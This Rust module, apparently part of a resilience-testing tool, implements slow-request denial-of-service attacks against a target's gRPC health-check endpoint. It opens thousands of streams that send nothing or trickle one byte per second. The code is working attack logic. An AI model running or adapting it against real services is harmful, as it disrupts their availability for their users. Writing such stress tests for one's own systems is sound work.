//! Calls whose message never comes, or comes slowly.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;

use super::{Attack, pace};
use crate::connection::{Face, framed};
use crate::target::{Door, Target};

const CHECK: &str = "/grpc.health.v1.Health/Check";
/// Time between two bytes.
const SLOWLY: Duration = Duration::from_secs(1);
/// Connections over which the calls are spread.
const CONNECTIONS: usize = 4;

/// Opens calls and sends nothing.
pub(super) fn without(target: Arc<Target>) -> Result<Attack> {
    Ok(Box::pin(calls(target, 2_000, false)))
}

/// Opens calls and sends a byte a second.
pub(super) fn trickled(target: Arc<Target>) -> Result<Attack> {
    Ok(Box::pin(calls(target, 1_000, true)))
}

async fn calls(target: Arc<Target>, count: usize, trickles: bool) -> Result<()> {
    let face = Face::of(&target.partner_node()?)?;
    pace::at_a_time(target, CONNECTIONS, move |target, _| {
        let face = face.clone();
        async move {
            let connection = face.greedy(&target, Door::Peers).await?;
            pace::until_broken(count / CONNECTIONS, target, move || {
                let connection = connection.clone();
                async move {
                    let (answer, mut body) = connection.open(CHECK).await?;
                    let message = framed(&[0x0a, 0x40]);
                    if trickles {
                        for byte in message {
                            tokio::time::sleep(SLOWLY).await;
                            body.send_data(Bytes::copy_from_slice(&[byte]), false)?;
                        }
                    }
                    answer.await?;
                    Ok(())
                }
            })
            .await
        }
    })
    .await
}
